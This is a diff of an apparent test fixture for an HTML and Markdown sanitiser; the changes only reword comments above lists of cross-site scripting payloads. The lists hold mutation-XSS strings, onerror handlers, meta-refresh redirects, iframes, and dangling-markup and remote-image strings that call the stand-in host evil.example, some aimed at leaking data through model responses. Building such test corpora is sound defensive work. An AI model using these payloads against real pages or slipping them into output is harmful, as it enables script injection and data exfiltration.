@@ -1,6 +1,6 @@
 /**
- * Texts that would run a script, or call another host, in a page that trusted them. Those that do run call
- * `sentinel()`; the other host is `evil.example`.
+ * Texts that would run a script, or call another host, in a page that trusts them. A script calls `sentinel()`; the
+ * other host is `evil.example`.
  */
 
 const tags = [
@@ -112,7 +112,7 @@ const svgAndMath = [
   '<math><annotation-xml encoding="text/html"><img src=x onerror=sentinel()></annotation-xml></math>',
 ];
 
-/** What a sanitiser's own parse and the page's parse read differently. */
+/** Markup that a sanitiser and the page parse differently. */
 const mutations = [
   '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=sentinel()&gt;">',
   '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=sentinel()>',
@@ -198,7 +198,7 @@ const styles = [
   '<table background="http://evil.example/a.png"><tr><td>x</table>',
 ];
 
-/** Begins something and leaves it open, so that what follows goes along. */
+/** Markup that is left open, so that it affects the content after it. */
 const dangling = [
   "<img src='http://evil.example/?",
   '<img src="http://evil.example/?',
@@ -263,8 +263,8 @@ const unicode = [
 export const scriptLinks: readonly string[] = links;
 
 /**
- * What no policy of a page hinders, only the sanitiser: that one leaves the page, a connection that is made before it
- * is needed, and pictures and frames over TLS, which operators may show.
+ * Markup that only the sanitiser stops, and no policy of a page: it leaves the page, connects in advance, or loads
+ * images and frames over TLS, which operators may show.
  */
 export const sanitizerOnlyPayloads: readonly string[] = [
   '<meta http-equiv="refresh" content="0;url=http://evil.example/refresh">',
@@ -273,7 +273,7 @@ export const sanitizerOnlyPayloads: readonly string[] = [
   '<iframe src="https://evil.example/frame"></iframe>',
 ];
 
-/** What pages that operators write may show, and answers of models may not. */
+/** Markup that pages of operators may show, and responses of models may not. */
 export const remoteImages: readonly string[] = [
   '![x](https://evil.example/a.png)',
   '<img src="https://evil.example/a.png">',
@@ -301,16 +301,16 @@ export const payloadKinds = {
 
 export const payloads: readonly string[] = Object.values(payloadKinds).flat();
 
-/** Ends whatever a payload left open, so that the next one is read by itself. */
+/** Closes what a payload left open, so that the next one is parsed by itself. */
 const END =
   '\n\n"\'>--></script></style></title></textarea></xmp></noembed></noframes></noscript></select></template></svg></math></table></form></iframe></object>\n\n';
 
-/** Many payloads in one text, each behind a number that is shown in bold. */
+/** Combines many payloads in one text, each behind a number in bold. */
 export function buildPage(texts: readonly string[]): string {
   return texts.map((text, index) => `**p${index}**\n\n${text}${END}`).join('');
 }
 
-/** The payloads spread over so many names. */
+/** Distributes the payloads over the given number of names. */
 export function distributeIntoNames(count: number): string[] {
   const names = Array.from({ length: count }, () => '');
   for (const [index, text] of payloads.entries()) names[index % count] += text;
